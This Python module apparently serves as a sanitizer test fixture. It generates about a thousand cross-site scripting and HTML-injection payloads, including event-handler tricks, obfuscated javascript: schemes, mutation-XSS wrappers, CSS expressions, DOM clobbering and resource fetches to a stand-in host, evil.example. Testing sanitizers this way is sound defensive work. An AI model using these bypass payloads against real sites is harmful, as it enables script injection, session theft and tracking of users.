"""A thousand pieces of HTML that want to run a script or to fetch something. Where one runs, it calls `hit()`."""

# ruff: noqa: E501  lists that are read across

from itertools import product

_ELSEWHERE = "https://evil.example/x"
_EVENTS = "onerror onload onfocus ontoggle onmouseover onbegin onstart onclick onpointerenter onanimationstart".split()
_TAGS = (
    "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe src=x", "object data=x",
    "marquee", "select autofocus", "textarea autofocus", "math", "form", "a href=x autofocus tabindex=1", "div tabindex=1 autofocus",
    "style", "link rel=stylesheet href=x", "embed src=x", "image src=x", "isindex autofocus", "keygen autofocus", "xss tabindex=1",
)  # fmt: skip
_BETWEEN = (" ", "/", "\t", "\n", "\r", "\x0c", "//", " / ", "\x00", " x='>' ", ' x=">" ', "\u00a0", "\u2028", "/x=/ ")
_HANDLERS = (
    "hit()",
    "'hit()'",
    '"hit()"',
    "`hit()`",
    "hit&lpar;&rpar;",
    "&#104;it()",
    "\\u0068it()",
    "hit\x00()",
    "//%0ahit()",
)
_SCHEMES = (
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()", "java&#10;script:hit()",
    "java&Tab;script:hit()", "&#106;avascript:hit()", "&#x6A&#x61&#x76&#x61script:hit()", "javascript&colon;hit()",
    " javascript:hit()", "\x01javascript:hit()", "\x1fjavascript:hit()", "\u00a0javascript:hit()", "javascript://%0ahit()",
    "vbscript:hit()", "livescript:hit()", "data:text/html,<script>parent.hit()</script>", "feed:javascript:hit()",
    "data:text/html;base64,PHNjcmlwdD5wYXJlbnQuaGl0KCk8L3NjcmlwdD4=", "data:image/svg+xml,<svg onload=hit()>",
    "view-source:javascript:hit()", "jar:javascript:hit()!/", "blob:javascript:hit()", "%6aavascript:hit()",
)  # fmt: skip
_PLACES = (
    '<a href="{}">x</a>', '<form action="{}"><input type=submit></form>', '<button formaction="{}" form=f>x</button>',
    '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>', '<svg><a xlink:href="{}"><text y=9>x</text></a>',
    '<map><area href="{}"></map>', '<base href="{}">', '<math href="{}">x</math>', '<meta http-equiv=refresh content="0;url={}">',
    '<img src="{}">', '<input type=image src="{}">', '<link rel=stylesheet href="{}">', '<video poster="{}">', '<q cite="{}">x</q>',
)  # fmt: skip
_FETCHING = (
    "<img src={0}>", "<img srcset='{0} 1x'>", "<picture><source srcset={0}></picture>", "<img lowsrc={0}>", "<image href={0}>",
    "<body background={0}>", "<table background={0}><td background={0}>x</table>", "<link rel=stylesheet href={0}>",
    "<link rel=preload as=image href={0}>", "<link rel=prefetch href={0}>", "<link rel=dns-prefetch href={0}>",
    "<link rel=icon href={0}>", "<link rel=manifest href={0}>", "<video src={0}></video>", "<video poster={0}></video>",
    "<audio src={0}></audio>", "<track src={0}>", "<embed src={0}>", "<object data={0}></object>", "<iframe src={0}></iframe>",
    "<frameset><frame src={0}></frameset>", "<input type=image src={0}>", "<script src={0}></script>", "<svg><image href={0}></svg>",
    "<svg><use href='{0}#a'></svg>", "<svg><feImage href={0}></svg>", "<style>@import '{0}';</style>", "<bgsound src={0}>",
    "<style>*{{background:url({0})}}</style>", "<div style='background:url({0})'>x</div>", "<p style='list-style:url({0})'>x</p>",
    "<div style=\"background:u\\72l({0})\">x</div>", "<style>@font-face{{font-family:a;src:url({0})}}*{{font-family:a}}</style>",
    "<div style='content:image-set(url({0}) 1x)'>x</div>", "<div style='cursor:url({0}),auto'>x</div>", "<a ping={0} href=#>x</a>",
    "<meta http-equiv=refresh content='0;url={0}'>", "<base href={0}><img src=y>", "<html manifest={0}>", "<applet code={0}></applet>",
    "<layer src={0}></layer>", "<portal src={0}></portal>", "<fencedframe src={0}></fencedframe>", "<img src=//evil.example/x>",
    "<img src=\\\\evil.example\\x>", "<img src='/\t/evil.example/x'>", "<xml src={0}></xml>", "<v:image src={0} />",
)  # fmt: skip
_CONTEXTS = (
    "{}", "<math><mtext><table><mglyph><style><!--</style>{}", "<svg><style>{}</style></svg>", "<noscript>{}</noscript>",
    "<noscript><p title=\"</noscript>{}\">", "<template>{}</template>", "<title>{}</title>", "<textarea>{}</textarea>",
    "<xmp>{}</xmp>", "<noembed>{}</noembed>", "<noframes>{}</noframes>", "<plaintext>{}", "<!--{}-->", "<!-->{}-->", "<![CDATA[{}]]>",
    "<select>{}</select>", "<form><math><mtext></form><form><mglyph><style></math>{}", "<svg></p><style><a id=\"</style>{}\">",
    "<math><annotation-xml encoding='text/html'>{}</annotation-xml></math>", "<iframe srcdoc='{}'></iframe>", "<?xml {}?>", "<%{}%>",
    "<svg><foreignObject>{}</foreignObject></svg>", "<table><tr>{}</table>", "</div></div></body></html>{}", "<p title='{}'>x</p>",
    "<a title=\"`{}`\">x</a>", "<frameset>{}</frameset>", "<object>{}</object>", "<video><track>{}</video>", "<button><p>{}</button>",
)  # fmt: skip
_INNER = (
    "<img src=x onerror=hit()>", "<script>hit()</script>", "<svg onload=hit()>", "<SCRIPT>hit()</SCRIPT>", "<scr\x00ipt>hit()</script>",
    "<script/x>hit()</script>", "<svg/onload=hit()>", "<<script>hit()</script>", "<script>hit()//", "<img src=x:x onerror\t=hit()>",
)  # fmt: skip
_STYLES = (
    "width:expression(hit())", "behavior:url(x.htc)", "-moz-binding:url(x.xml#x)", "background:url(javascript:hit())",
    "position:fixed;top:0;left:0;width:100%;height:100%", "animation:x 1s;background:url(https://evil.example/x)",
    "x:\\65xpression(hit())", "@import url(https://evil.example/x)", "}</style><script>hit()</script>", "color:red;/*</style>*/",
)  # fmt: skip
_STYLED = ('<p style="{}">x</p>', "<style>p{{{}}}</style><p>x</p>", "<div style='{}'>x</div>", "<font style=`{}`>x</font>")
_REST = (
    "<a id=search name=body href=//evil.example>x</a>", "<form id=hit><input name=attributes></form>", "<img name=getElementById>",
    "<p hx-get=/sign-out hx-trigger=load>x</p>", "<p data-hx-on:load=hit()>x</p>", "<p hx-on::load=hit()>x</p>", "{{7*7}}", "{% x %}",
    "${hit()}", "<%= hit() %>", "+ADw-script+AD4-hit()+ADw-/script+AD4-", "\ufeff<script>hit()</script>", "%3Cscript%3Ehit()%3C/script%3E",
    "&lt;script&gt;hit()&lt;/script&gt;", "\u3008script\u3009hit()\u3008/script\u3009", "<scrıpt>hit()</scrıpt>", "<ſcript>hit()</ſcript>",
    "\xf0\x28\x8c\x28<script>hit()</script>", "<b>" * 3000, "<" * 5000, "<a href='" * 500, "&" * 5000, "<!--" * 1000,
)  # fmt: skip

PAYLOADS = tuple(
    dict.fromkeys(
        [
            *(f"<{tag} {event}=hit()>" for tag, event in product(_TAGS, _EVENTS)),
            *(f"<img{between}src=x{between}onerror=hit()>" for between in _BETWEEN),
            *(f"<svg{between}onload=hit()>" for between in _BETWEEN),
            *(f"<img src=x onerror={handler}>" for handler in _HANDLERS),
            *(place.format(scheme) for place, scheme in product(_PLACES, _SCHEMES)),
            *(fetching.format(_ELSEWHERE) for fetching in _FETCHING),
            *(context.format(inner) for context, inner in product(_CONTEXTS, _INNER)),
            *(styled.format(style) for styled, style in product(_STYLED, _STYLES)),
            *_REST,
        ]
    )
)
